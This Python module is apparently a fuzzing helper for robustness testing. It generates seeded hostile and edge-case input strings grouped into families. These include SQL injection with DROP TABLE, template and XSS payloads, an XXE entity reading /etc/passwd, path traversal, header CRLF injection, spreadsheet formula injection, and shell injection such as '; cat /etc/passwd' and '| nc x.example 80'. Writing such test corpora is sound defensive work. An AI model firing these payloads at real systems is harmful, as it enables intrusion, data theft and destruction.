"""Strings that mean something to somebody: a database, a template, a browser, a shell, a spreadsheet, a header.

Each carries a mark that is nobody's word. Families are our own; what is drawn from a seed is the same each time.
"""

from collections.abc import Callable, Iterator
from random import Random

MARK = "zqmark"
_SQL = (
    "' OR '1'='1' -- {m}",
    '" OR ""="{m}',
    "'; DROP TABLE victims_case; -- {m}",
    "1; SELECT pg_sleep(5) -- {m}",
    "1 UNION ALL SELECT NULL,NULL,sqlite_version() -- {m}",
    "') OR 1=1 LIMIT 1 -- {m}",
    "{m}' AND (SELECT 1 FROM (SELECT COUNT(*)) x) AND '1'='1",
    "{m}%' ESCAPE '!",
    "%_%_% {m}",
    'x" MATCH "{m}" NEAR(',
    "{m}* OR NOT AND NEAR/2",
    "col:{m} ^-",
    "{m}':* & !",
    "E'\\\\x27' {m}",
    "$${m}$$",
)
_TEMPLATE = (
    "{{{{7*7}}}}{m}",
    "{{% import os %}}{m}",
    "${{{{<%[%'\"}}}}%\\. {m}",
    "#{{7*7}}{m}",
    "{{0.__class__.__mro__}} {m}",
    "%(m)s %s %n %x {m}",
    "{{{m}}}",
    "{m}{{",
    "[[chart:{m}|../../x]]",
)
_MARKUP = (
    "<script>{m}()</script>",
    '"><img src=x onerror={m}()>',
    "' autofocus onfocus={m}() x='",
    "</title><svg/onload={m}()>",
    "javascript:{m}()",
    " java\tscript:{m}()",
    "data:text/html,<script>{m}()</script>",
    "</textarea><iframe srcdoc='<script>{m}()</script>'>",
    "<a href='//{m}.example'>x</a>",
    "--><base href=//{m}.example/>",
    "]]><x>{m}</x>",
    "&#60;script&#62;{m}&#60;/script&#62;",
    "\\u003cscript\\u003e{m}()",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;{m}</x>",
    "<style>@import '//{m}.example'</style>",
    "[x](javascript:{m}())",
    "![x](//{m}.example/x.png)",
)
_PATHS = (
    "../../../../../../etc/passwd{m}",
    "..\\..\\..\\windows\\win.ini{m}",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd{m}",
    "....//....//{m}",
    "/etc/passwd\x00{m}.csv",
    "file:///{m}",
    "//{m}.example/x",
    "https://{m}.example/",
    "/\\{m}.example",
    "http:{m}",
    "///{m}.example",
    "CON.{m}",
)
_HEADERS = (
    "{m}\r\nSet-Cookie: a=b",
    "{m}\nLocation: //x.example",
    "{m}%0d%0aX-Bad: 1",
    "a@example.org\r\nBcc: {m}@example.org",
    "{m}\u2028X-Bad: 1",
    "{m}\u560d\u560aX-Bad: 1",
    '{m}"; filename="x.html',
)
_SHEETS = ("=cmd|'/c calc'!{m}", "@SUM(1){m}", "+{m}(1)", "-{m}(1)", '=HYPERLINK("//{m}.example")', "\t={m}()")
_OTHERS = (
    "*)(uid=*))(|(uid={m}",
    "{m})(|(password=*",
    "; cat /etc/passwd #{m}",
    "| nc x.example 80 {m}",
    "`id {m}`",
    "$(id {m})",
    "&& ping -c 1 {m}.example",
    "() {{ :;}}; echo {m}",
    "__proto__[{m}]",
    "{m}[]",
    '{{"$gt": "{m}"}}',
    "rO0AB{m}",
    "!!python/object/apply:os.system [{m}]",
)
_NUMBERS = (
    *("0", "-1", "1", "999999999999999999999999", "9223372036854775808", "-9223372036854775809", "2147483648"),
    *("1e999", "-1e999", "NaN", "Infinity", "0x7f", "1_000", "1,000", "٣", "²", "１２", "½", "-0", "+1", " 1 ", "1.0"),
    *("9" * 400, "9" * 5000, "1e-9999", "0" * 300 + "1", "1e5", "\u0967"),
)
_DATES = (
    *("0000-00-00", "9999-12-31", "10000-01-01", "-0001-01-01", "2026-02-30", "2026-13-01", "1899-12-31", "0001-01-01"),
    *(
        "2026-W53-7",
        "2026-366",
        "31/02/1989",
        "2026-12-31T23:59:60Z",
        "2026-10-25T01:30",
        "99999",
        "00000",
        "٢٠٢٦-٠١-٠١",
    ),
    *("9999-99-99", "2026-01-01T25:00", "tomorrow", "now", "1 Foo 2020", "29 February 2100", "12/12/12/12"),
)
_SIGNS = (
    *("\x00", "\x00{m}", "{m}\x00{m}", "\ufeff{m}", "\u202e{m}\u202c", "\u2066{m}", "\u200b", "{m}\u200d", "\x7f{m}"),
    *(
        "ｚｑ{m}",
        "раураl {m}",
        "Ａ" * 50,
        "ß{m}",
        "İ{m}",
        "ﷺ" * 30,
        "\u0300" * 200 + "{m}",
        "🏴\U000e0067{m}",
        "\ufffe",
    ),
    *("{m}\u0085", "\u2028{m}\u2029", "\x1b[2J{m}", "\x08{m}", "é" * 255, "e\u0301" * 255, "\U0010ffff{m}", "\u3164"),
)
_HALVES = ("\ud800{m}", "{m}\udfff", "\udcff{m}", "\udc80")
_NESTED = ("[" * 2000, '{{"a":' * 500, "(" * 1000 + "{m}", "> " * 500 + "{m}", "*" * 3000, "a:" * 1000)
_LONG = ("{m}" * 5000, "x" * 70_000, " " * 10_000 + "{m}", "{m}\n" * 3000, "\t" * 5000)
FAMILIES: dict[str, tuple[str, ...]] = {
    "SQL": _SQL,
    "templates": _TEMPLATE,
    "mark-up": _MARKUP,
    "paths": _PATHS,
    "headers": _HEADERS,
    "formulas": _SHEETS,
    "LDAP, shells and others": _OTHERS,
    "numbers": _NUMBERS,
    "days": _DATES,
    "signs": _SIGNS,
    "halves of characters": _HALVES,
    "nested": _NESTED,
    "long": _LONG,
}
WITHOUT_HALVES = tuple(one for one in FAMILIES if one != "halves of characters")
"""What a browser can send: a half of a character cannot be written in UTF-8."""


def shipped(mark: str = MARK) -> tuple[str, ...]:
    """Every string as it stands, without chance."""
    return tuple(_filled(one, mark) for family in FAMILIES.values() for one in family)


def strings(seed: int, number: int, *, families: tuple[str, ...] = tuple(FAMILIES)) -> Iterator[str]:
    """So many strings: each family in turn, first as it stands and then changed and put together by chance."""
    rng = Random(seed)
    for place in range(number):
        family = FAMILIES[families[place % len(families)]]
        turn = place // len(families)
        mark = f"{MARK}{place:05d}"
        base = _filled(family[turn % len(family)], mark)
        yield base if turn < len(family) else rng.choice(_WAYS)(rng, base, _filled(rng.choice(family), mark))


def _filled(one: str, mark: str) -> str:
    """A string with its mark. Those without doubled braces stand as they are."""
    try:
        return one.format(m=mark)
    except (ValueError, KeyError, IndexError, AttributeError):
        return one.replace("{m}", mark)


def _twice(rng: Random, one: str, other: str) -> str:
    return one + other


def _within(rng: Random, one: str, other: str) -> str:
    at = rng.randrange(len(one) + 1)
    return one[:at] + other + one[at:]


def _turned(rng: Random, one: str, other: str) -> str:
    return "".join(letter.upper() if rng.random() < 0.5 else letter.lower() for letter in one)


def _sprinkled(rng: Random, one: str, other: str) -> str:
    signs = "\x00\t\n\r\u200b\u202e\ufeff'\"<>%\\"
    return "".join(letter + (rng.choice(signs) if rng.random() < 0.08 else "") for letter in one[:2000])


def _percent(rng: Random, one: str, other: str) -> str:
    return "".join(f"%{byte:02x}" if rng.random() < 0.5 else chr(byte) for byte in one[:500].encode("utf-8", "replace"))


def _surrounded(rng: Random, one: str, other: str) -> str:
    opening, closing = rng.choice(
        (("'", "'"), ('"', '"'), ("<!--", "-->"), ("`", "`"), ("(", ")"), (" ", " "), ("\n", "\n"))
    )
    return opening + one + closing


_WAYS: tuple[Callable[[Random, str, str], str], ...] = (_twice, _within, _turned, _sprinkled, _percent, _surrounded)
